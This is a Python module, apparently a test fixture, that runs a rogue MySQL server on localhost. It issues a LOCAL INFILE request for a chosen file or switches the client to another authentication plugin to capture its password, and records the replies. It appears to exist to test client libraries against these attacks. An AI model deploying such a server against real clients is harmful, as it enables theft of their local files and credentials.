"""A malicious MySQL server: it requests a local file or the plain-text password from its client."""

import socket
import struct
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field

_CAPABILITIES = 0x0008 | 0x0080 | 0x0200 | 0x2000 | 0x8000 | 0x80000
"""CONNECT_WITH_DB, LOCAL_FILES, PROTOCOL_41, TRANSACTIONS, SECURE_CONNECTION and PLUGIN_AUTH."""
_OK = b"\x00\x00\x00\x02\x00\x00\x00"
_EOF = b"\xfe\x00\x00\x02\x00"
_QUIT, _QUERY, _PREPARE, _CLOSE = 0x01, 0x03, 0x16, 0x19


@dataclass
class RogueServer:
    """Its port, the attack it makes, and the packets it received."""

    port: int
    requested_file: str = ""
    """The file that it requests."""
    attack_at: int = -1
    """Index of the command that is answered with the request; -1 for none."""
    auth_plugin: str = ""
    """Authentication plugin to switch to."""
    commands: list[bytes] = field(default_factory=list)
    auth_responses: list[bytes] = field(default_factory=list)
    """Packets received after the switch."""
    files: list[bytes] = field(default_factory=list)
    """Packets received after the request."""


@contextmanager
def rogue_mysql(*, requested_file: str = "", attack_at: int = -1, auth_plugin: str = "") -> Iterator[RogueServer]:
    """Run the server; yield it."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        server = RogueServer(listener.getsockname()[1], requested_file, attack_at, auth_plugin)
        thread = threading.Thread(target=_accept, args=(listener, server), daemon=True)
        thread.start()
        yield server
        listener.shutdown(socket.SHUT_RDWR)
        thread.join(5)


def _accept(listener: socket.socket, server: RogueServer) -> None:
    with suppress(OSError):
        while True:
            client, _ = listener.accept()
            with client, suppress(OSError, EOFError):
                client.settimeout(2)
                _serve(client, server)


def _serve(client: socket.socket, server: RogueServer) -> None:
    _send(client, 0, _greeting())
    number, _ = _receive(client)
    if server.auth_plugin:
        _send(client, number + 1, b"\xfe" + server.auth_plugin.encode() + b"\0" + b"s" * 20 + b"\0")
        number, packet = _receive(client)
        server.auth_responses.append(packet)
    _send(client, number + 1, _OK)
    while True:
        _, packet = _receive(client)
        if packet[0] == _QUIT:
            return
        server.commands.append(packet)
        if len(server.commands) - 1 == server.attack_at:
            _send(client, 1, b"\xfb" + server.requested_file.encode())
            _, packet = _receive(client)
            server.files.append(packet)
        elif packet[0] != _CLOSE:
            _respond(client, packet)


def _greeting() -> bytes:
    ends = struct.pack("<HBHHB", _CAPABILITIES & 0xFFFF, 45, 2, _CAPABILITIES >> 16, 21)
    return b"\x0a8.0.36-rogue\0" + struct.pack("<I", 7) + b"s" * 8 + b"\0" + ends + b"\0" * 10 + b"s" * 12 + b"\0mysql_native_password\0"


def _respond(client: socket.socket, command: bytes) -> None:
    """Respond as a harmless server: every query returns one column and one row."""
    if command[0] == _PREPARE:
        packets = [b"\x00" + struct.pack("<IHHBH", 1, 1, 0, 0, 0), _column(), _EOF]
    elif command[0] == _QUERY and command[1:7].upper() in (b"SELECT", b"EXPLAI"):
        packets = [b"\x01", _column(), _EOF, b"\x011", _EOF]
    else:
        packets = [_OK]
    for number, packet in enumerate(packets, 1):
        _send(client, number, packet)


def _column() -> bytes:
    texts = b"".join(bytes([len(each)]) + each for each in (b"def", b"", b"", b"", b"a", b"a"))
    return texts + b"\x0c" + struct.pack("<HIBHBH", 45, 80, 253, 0, 0, 0)


def _send(client: socket.socket, number: int, packet: bytes) -> None:
    client.sendall(struct.pack("<I", len(packet))[:3] + bytes([number % 256]) + packet)


def _receive(client: socket.socket) -> tuple[int, bytes]:
    head = _receive_exactly(client, 4)
    return head[3], _receive_exactly(client, int.from_bytes(head[:3], "little"))


def _receive_exactly(client: socket.socket, size: int) -> bytes:
    received = b""
    while len(received) < size:
        piece = client.recv(size - len(received))
        if not piece:
            raise EOFError
        received += piece
    return received
